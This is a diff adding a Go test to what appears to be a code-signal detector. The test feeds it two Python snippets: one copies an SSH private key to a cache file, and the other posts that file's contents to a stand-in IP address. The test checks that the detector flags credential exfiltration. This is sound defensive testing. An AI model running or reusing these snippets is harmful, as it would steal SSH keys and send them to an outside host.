@@ -19,6 +19,17 @@ func signalsOf(lang, src string) string {
 	return out
 }
 
+// TestFiles follows a secret through a file that another script reads.
+func TestFiles(t *testing.T) {
+	s := signaltest.Region("a", signal.Code, "py", "import shutil\nshutil.copy('/home/me/.ssh/id_rsa', 'cache.bin')")
+	other := s.Regions[0]
+	other.Text = "import requests\nrequests.post('http://203.0.113.9', data=open('cache.bin').read())"
+	s.Regions = append(s.Regions, other)
+	if got := signaltest.Extract(s, New()); !matches(got, "send credential ip") {
+		t.Error(got)
+	}
+}
+
 // TestFlows follows values through code. What is wanted is in the signals, what is not wanted
 // (after a !) is not.
 func TestFlows(t *testing.T) {
